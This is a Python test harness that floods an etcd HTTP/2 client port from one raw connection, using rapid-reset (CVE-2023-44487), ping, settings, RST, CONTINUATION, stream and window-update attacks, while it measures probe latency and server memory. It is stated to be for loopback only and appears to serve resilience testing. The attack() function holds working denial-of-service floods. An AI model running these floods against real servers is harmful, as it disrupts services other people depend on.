#!/usr/bin/env python3
"""HTTP/2 abuse of an etcd client port from one connection, while another client measures its latency.

Usage: scripts/h2-abuse.py --endpoint 127.0.0.1:2379 [--pid PID] [--seconds 10] [--attacks rapid-reset,ping,...]

For each attack: a probe (its own connection, sequential linearizable Range calls of one key) runs alone for
`--seconds`, then again while one connection carries the attack for `--seconds`. Printed per attack: the probe's
p50/p99 alone and under attack, how the server answered the attacker (GOAWAY and its code, refused streams), what
the attacker sent, and the server's resident memory (VmRSS, with --pid) before and after.

Needs the `h2` package from PyPI (`pip install h2`, which brings `hyperframe` and `hpack`). Loopback only.
"""

import argparse
import socket
import struct
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame, Frame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def range_request(key: bytes) -> bytes:
    # etcdserverpb.RangeRequest{key: key}: field 1, wire type 2.
    return b"\x0a" + bytes([len(key)]) + key


def put_request(key: bytes, value: bytes) -> bytes:
    return b"\x0a" + bytes([len(key)]) + key + b"\x12" + bytes([len(value)]) + value


def request_headers(host, path):
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", host),
            ("content-type", "application/grpc"), ("te", "trailers")]


class Probe(threading.Thread):
    """Sequential unary Range calls on one connection; records each call's latency."""

    def __init__(self, host, port):
        super().__init__(daemon=True)
        self.host, self.port = host, port
        self.samples = []
        self.errors = 0
        self.recording = threading.Event()
        self.stop = threading.Event()

    def run(self):
        sock = socket.create_connection((self.host, self.port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        body = grpc_message(range_request(b"probe"))
        while not self.stop.is_set():
            sid = conn.get_next_available_stream_id()
            start = time.perf_counter()
            conn.send_headers(sid, request_headers(f"{self.host}:{self.port}", "/etcdserverpb.KV/Range"))
            conn.send_data(sid, body, end_stream=True)
            sock.sendall(conn.data_to_send())
            status, done = None, False
            while not done:
                data = sock.recv(65536)
                if not data:
                    return
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.DataReceived):
                        conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                    if isinstance(event, h2.events.TrailersReceived) and event.stream_id == sid:
                        status = dict(event.headers).get("grpc-status")
                    if isinstance(event, h2.events.StreamEnded) and event.stream_id == sid:
                        done = True
                    if isinstance(event, h2.events.StreamReset) and event.stream_id == sid:
                        done = True
                pending = conn.data_to_send()
                if pending:
                    sock.sendall(pending)
            if self.recording.is_set():
                if status == "0":
                    self.samples.append(time.perf_counter() - start)
                else:
                    self.errors += 1
        sock.close()


class Attacker:
    """One raw connection: frames written as fast as the socket takes them; a reader notes what comes back."""

    def __init__(self, host, port):
        self.host, self.port = host, port
        self.sock = socket.create_connection((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.goaway = None
        self.refused = 0
        self.resets = 0
        self.closed = threading.Event()
        self.sent_frames = 0
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()

    def read(self):
        buffer = b""
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                buffer += data
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[0:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags = buffer[3], buffer[4]
                    payload = buffer[9:9 + length]
                    buffer = buffer[9 + length:]
                    if kind == 0x7:  # GOAWAY
                        code = int.from_bytes(payload[4:8], "big")
                        self.goaway = (code, payload[8:].decode("latin-1"))
                    elif kind == 0x3:  # RST_STREAM
                        code = int.from_bytes(payload[0:4], "big")
                        self.resets += 1
                        if code == 0x7:
                            self.refused += 1
                    elif kind == 0x4 and not flags & 0x1:  # SETTINGS: acknowledge, as a client must
                        self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        except OSError:
            pass
        self.closed.set()

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed.set()
            return False

    def headers_block(self, path):
        return self.encoder.encode(request_headers(f"{self.host}:{self.port}", path))

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def attack(name, attacker, until):
    sid = 1
    batch = 200
    put = grpc_message(put_request(b"attack", b"x" * 16))
    while time.time() < until and not attacker.closed.is_set():
        out = bytearray()
        for _ in range(batch):
            if name == "rapid-reset":
                # CVE-2023-44487: a complete request, cancelled at once.
                out += HeadersFrame(sid, attacker.headers_block("/etcdserverpb.KV/Put"), flags=["END_HEADERS"]).serialize()
                out += DataFrame(sid, put, flags=["END_STREAM"]).serialize()
                out += RstStreamFrame(sid, error_code=0x8).serialize()
                sid += 2
            elif name == "ping":
                out += PingFrame(0, opaque_data=struct.pack(">Q", sid)).serialize()
                sid += 1
            elif name == "settings":
                out += SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
            elif name == "rst":
                # A stream opened and reset with nothing to do: HEADERS without END_STREAM, then RST_STREAM.
                out += HeadersFrame(sid, attacker.headers_block("/etcdserverpb.KV/Range"), flags=["END_HEADERS"]).serialize()
                out += RstStreamFrame(sid, error_code=0x8).serialize()
                sid += 2
            elif name == "empty-data":
                if sid == 1:
                    out += HeadersFrame(1, attacker.headers_block("/etcdserverpb.KV/Range"), flags=["END_HEADERS"]).serialize()
                    sid = 3
                out += DataFrame(1, b"").serialize()
            elif name == "continuation":
                # One header block cut into CONTINUATION frames of one byte, never ended.
                if sid == 1:
                    block = attacker.headers_block("/etcdserverpb.KV/Range")
                    out += HeadersFrame(1, block[:1]).serialize()
                    sid = 3
                out += ContinuationFrame(1, b"\x40").serialize()
            elif name == "streams":
                # Streams opened and left open (no END_STREAM): past the limit they must be refused.
                out += HeadersFrame(sid, attacker.headers_block("/etcdserverpb.KV/Put"), flags=["END_HEADERS"]).serialize()
                sid += 2
            elif name == "window-update":
                out += WindowUpdateFrame(0, window_increment=1).serialize()
            attacker.sent_frames += 1
        if not attacker.send(bytes(out)):
            break
        if name == "streams" and sid > 2 * 200_000:
            break


def rss(pid):
    if not pid:
        return None
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) // 1024
    return None


def percentile(samples, p):
    if not samples:
        return float("nan")
    s = sorted(samples)
    return s[min(len(s) - 1, int(len(s) * p))] * 1000


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--endpoint", default="127.0.0.1:2379")
    parser.add_argument("--pid", type=int, default=0)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--attacks", default="rapid-reset,ping,settings,rst,empty-data,continuation,streams,window-update")
    args = parser.parse_args()
    host, port = args.endpoint.rsplit(":", 1)
    port = int(port)
    print(f"{'attack':14} {'p50 alone':>9} {'p99 alone':>9} {'p50 under':>9} {'p99 under':>9} {'ratio':>6}  "
          f"{'sent':>9} {'lasted':>7}  server's answer; RSS MiB before/after")
    for name in args.attacks.split(","):
        probe = Probe(host, port)
        probe.start()
        time.sleep(0.5)
        probe.recording.set()
        time.sleep(args.seconds)
        alone = list(probe.samples)
        probe.samples.clear()
        before = rss(args.pid)
        attacker = Attacker(host, port)
        started = time.time()
        attack(name, attacker, started + args.seconds)
        lasted = time.time() - started
        # The probe keeps measuring for the whole window even if the attacker was cut off early.
        remaining = started + args.seconds - time.time()
        if remaining > 0:
            time.sleep(remaining)
        attacker.closed.wait(0.5)
        under = list(probe.samples)
        probe.stop.set()
        after = rss(args.pid)
        answer = []
        if attacker.goaway:
            code, debug = attacker.goaway
            answer.append(f"GOAWAY code {code:#x} {debug!r}".strip())
        if attacker.refused:
            answer.append(f"{attacker.refused} streams refused")
        if attacker.closed.is_set():
            answer.append("connection closed")
        if not answer:
            answer.append("connection still open")
        ratio = percentile(under, 0.99) / percentile(alone, 0.99)
        print(f"{name:14} {percentile(alone, .5):8.2f}m {percentile(alone, .99):8.2f}m "
              f"{percentile(under, .5):8.2f}m {percentile(under, .99):8.2f}m {ratio:6.2f}  "
              f"{attacker.sent_frames:9d} {lasted:6.1f}s  {', '.join(answer)}; {before}/{after}"
              f"{'' if not probe.errors else f'; probe errors {probe.errors}'}", flush=True)
        attacker.close()
        probe.join(2)


if __name__ == "__main__":
    main()
